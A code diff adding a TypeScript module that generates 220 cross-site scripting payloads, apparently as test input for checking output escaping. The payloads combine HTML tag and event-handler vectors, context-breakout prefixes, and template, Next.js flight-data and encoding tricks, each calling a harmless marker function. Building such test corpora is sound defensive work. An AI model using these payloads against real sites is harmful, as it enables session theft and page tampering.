@@ -1,0 +1,80 @@
+/** What a payload calls when it runs; the browser counts. */
+const call = 'xss()'
+
+const tags = [
+  `<script>${call}</script>`,
+  `<script/x>${call}</script/x>`,
+  `<ScRiPt>${call}</sCrIpT>`,
+  `<script src="data:text/javascript,${call}"></script>`,
+  `<script type=module>${call}</script>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><script href="data:text/javascript,${call}"/></svg>`,
+  `<svg onload=${call}>`,
+  `<svg/onload=${call}>`,
+  `<img src=x onerror=${call}>`,
+  `<img/src=x/onerror=${call}>`,
+  `<img src=x: onerror=${call}//`,
+  `<image src=x onerror=${call}>`,
+  `<video><source onerror=${call}></video>`,
+  `<audio src=x onerror=${call}>`,
+  `<body onload=${call}>`,
+  `<input autofocus onfocus=${call}>`,
+  `<select autofocus onfocus=${call}>`,
+  `<textarea autofocus onfocus=${call}>`,
+  `<details open ontoggle=${call}>`,
+  `<iframe srcdoc="<script>parent.${call}</script>">`,
+  `<iframe src="javascript:parent.${call}">`,
+  `<iframe onload=${call}>`,
+  `<object data="data:text/html,<script>parent.${call}</script>">`,
+  `<embed src="javascript:${call}">`,
+  `<form><button formaction="javascript:${call}" autofocus onfocus=${call}>x`,
+  `<a href="javascript:${call}" autofocus onfocus=${call} tabindex=1>x</a>`,
+  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
+  `<math href="javascript:${call}">x</math>`,
+  `<marquee onstart=${call}>x</marquee>`,
+  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${call}>`,
+  `<link rel=stylesheet href="data:text/css,*{}" onload=${call}>`,
+  `<base href="javascript:/a/-${call}//"><a href=".">x</a>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  `<template><script>${call}</script></template><script>${call}</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<table background="javascript:${call}"><img src=x onerror=${call}></table>`,
+  `<dialog open><img src=x onerror=${call}></dialog>`,
+  `<object><param name=x value=y><img src=x onerror=${call}></object>`,
+  `<xss id=x tabindex=1 autofocus onfocus=${call}></xss>`,
+]
+
+// What gets out of the place where a text usually stands: an attribute, a comment, a title, a script, flight data.
+const ways = [
+  (tag: string) => tag,
+  (tag: string) => `">${tag}`,
+  (tag: string) => `'>${tag}`,
+  (tag: string) => `--></title></textarea></style></script>${tag}`,
+  (tag: string) => `\\u003c/script\\u003e</script>${tag}<!--`,
+]
+
+const bare = [
+  `" autofocus onfocus=${call} x="`,
+  `' onmouseover=${call} autofocus onfocus=${call} x='`,
+  `javascript:${call}`,
+  `java\tscript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `"};${call};//`,
+  `']);${call};//`,
+  `\${${call}}`,
+  `{{constructor.constructor('${call}')()}}`,
+  `</script><script>${call}</script>`,
+  `\\";${call};//`,
+  `1;self.__next_f.push([1,"x"]);${call}`,
+  `$L1:["$","img",null,{"src":"x","onError":"${call}"}]`,
+  `["$","script",null,{"dangerouslySetInnerHTML":{"__html":"${call}"}}]`,
+  `{"__html":"<img src=x onerror=${call}>"}`,
+  `\u202e<img src=x onerror=${call}>`,
+  `&lt;img src=x onerror=${call}&gt;`,
+  `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
+  `\uff1cimg src=x onerror=${call}\uff1e`,
+  `<img src=x onerror=&#x78;&#x73;&#x73;()>`,
+]
+
+/** 220 texts that run a script where somebody forgets to escape. */
+export const xssPayloads: string[] = [...ways.flatMap((out) => tags.map(out)), ...bare]
